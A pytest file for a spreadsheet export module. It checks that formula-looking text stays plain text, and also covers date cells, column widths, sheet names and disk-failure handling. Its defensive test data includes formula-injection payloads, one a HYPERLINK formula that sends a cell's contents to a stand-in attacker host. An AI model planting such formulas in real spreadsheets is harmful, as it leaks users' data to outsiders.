import datetime as dt
import errno
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mentordesk.domain.errors import ExportFailed
from mentordesk.formats import files, xlsx_export
from mentordesk.formats.xlsx_export import SheetData, write_table
from tests.helpers.files import folder_listing

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B1,"click")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
]


def _sheet_xml(path, number=1):
    with zipfile.ZipFile(path) as archive:
        return archive.read(f"xl/worksheets/sheet{number}.xml").decode()


def _cell_xml(xml, ref):
    match = re.search(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', xml)
    assert match, ref
    return match.group(0)


def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path):
    path = tmp_path / "people.xlsx"
    write_table(path, [SheetData("People", ["Name"], [[v] for v in HOSTILE])])

    xml = _sheet_xml(path)
    assert "<f>" not in xml
    assert "<f " not in xml
    for row in range(2, len(HOSTILE) + 2):
        cell = _cell_xml(xml, f"A{row}")
        assert 't="inlineStr"' in cell or 't="s"' in cell, cell
    with zipfile.ZipFile(path) as archive:
        assert 'quotePrefix="1"' in archive.read("xl/styles.xml").decode()
    sheet = openpyxl.load_workbook(path)["People"]
    read = [sheet.cell(row, 1).value for row in range(2, len(HOSTILE) + 2)]
    # NUL cannot be stored in xlsx at all; it is dropped, and what is left stays text.
    # (lxml writes a carriage return as &#13;, so it comes back as it was.)
    assert read == [*HOSTILE[:-1], "=1+1"]
    assert all(sheet.cell(row, 1).data_type == "s" for row in range(2, len(HOSTILE) + 2))


def test_header_is_styled_frozen_and_filtered_over_the_used_range(tmp_path):
    path = tmp_path / "view.xlsx"
    rows = [["Ada Lovelace", dt.date(2026, 3, 4), 3], ["Grace Hopper", None, None]]
    write_table(path, [SheetData("Applicants", ["Name", "Submitted", "Capacity"], rows)])

    sheet = openpyxl.load_workbook(path)["Applicants"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:C3"
    header = sheet["A1"]
    assert header.value == "Name"
    assert header.font.b
    assert header.fill.fill_type == "solid"


def test_dates_are_real_date_cells(tmp_path):
    path = tmp_path / "dates.xlsx"
    when = dt.datetime(2026, 5, 6, 14, 30, tzinfo=dt.UTC)
    write_table(path, [SheetData("Dates", ["On", "At"], [[dt.date(2024, 2, 29), when]])])

    sheet = openpyxl.load_workbook(path)["Dates"]
    on, at = sheet["A2"], sheet["B2"]
    assert on.is_date
    assert on.value == dt.datetime(2024, 2, 29)
    assert on.number_format == "yyyy-mm-dd"
    assert at.is_date
    assert at.value == dt.datetime(2026, 5, 6, 14, 30)
    assert 't="n"' in _cell_xml(_sheet_xml(path), "A2")


def test_columns_fit_their_content_within_a_cap(tmp_path):
    path = tmp_path / "widths.xlsx"
    rows = [["x", "a" * 500, "medium length text"]]
    write_table(path, [SheetData("W", ["Short", "Long", "Medium"], rows)])

    dims = openpyxl.load_workbook(path)["W"].column_dimensions
    assert dims["A"].width < dims["C"].width < dims["B"].width
    assert dims["B"].width == xlsx_export.MAX_COLUMN_WIDTH
    assert dims["C"].width >= len("medium length text")


def test_several_sheets_with_awkward_names(tmp_path):
    path = tmp_path / "book.xlsx"
    write_table(
        path,
        [
            SheetData("Check-ins: 2026/27", ["A"], [[1]]),
            SheetData("People", ["A"], []),
            SheetData("people", ["A"], []),
        ],
    )
    names = openpyxl.load_workbook(path).sheetnames
    assert names == ["Check-ins  2026 27", "People", "people (2)"]
    assert openpyxl.load_workbook(path)["People"].auto_filter.ref == "A1:A1"


def test_a_failed_write_leaves_nothing_and_keeps_the_old_file(tmp_path, monkeypatch):
    path = tmp_path / "out.xlsx"
    path.write_bytes(b"the previous export")

    real_save = openpyxl.Workbook.save

    def disk_full(self, filename):
        real_save(self, filename)
        with open(filename, "r+b") as handle:
            handle.truncate(100)
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", disk_full)
    with pytest.raises(ExportFailed, match="disk is full"):
        write_table(path, [SheetData("S", ["A"], [["x"]])])
    assert folder_listing(tmp_path) == {"out.xlsx"}
    assert path.read_bytes() == b"the previous export"


def test_a_missing_folder_is_reported_plainly(tmp_path):
    with pytest.raises(ExportFailed, match="does not exist"):
        write_table(tmp_path / "nowhere" / "out.xlsx", [SheetData("S", ["A"], [])])


def test_a_refused_replace_is_reported_plainly(tmp_path, monkeypatch):
    def refused(source, target):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(files.os, "replace", refused)
    with pytest.raises(ExportFailed, match="close it"):
        write_table(tmp_path / "out.xlsx", [SheetData("S", ["A"], [])])
    assert folder_listing(tmp_path) == set()


@given(st.text(max_size=40))
@settings(max_examples=60, deadline=None)
def test_no_text_ever_becomes_a_formula(tmp_path_factory, text):
    path = tmp_path_factory.mktemp("any") / "any.xlsx"
    write_table(path, [SheetData("S", ["A"], [[text]])])
    assert "<f>" not in _sheet_xml(path)


def test_scratch_copies_stay_beside_the_export_and_are_removed(tmp_path, monkeypatch):
    from openpyxl.worksheet import _writer

    made = []
    real = _writer.NamedTemporaryFile

    def watched(*args, **kwargs):
        handle = real(*args, **kwargs)
        made.append(handle.name)
        return handle

    monkeypatch.setattr(_writer, "NamedTemporaryFile", watched)
    folder = tmp_path / "exports"
    folder.mkdir()
    write_table(folder / "people.xlsx", [SheetData("People", ["Name"], [["Ana Costa"]])])
    assert made, "openpyxl should have written a scratch copy of the sheet"
    assert all(Path(name).parent == folder for name in made)
    assert [p.name for p in folder.iterdir()] == ["people.xlsx"]
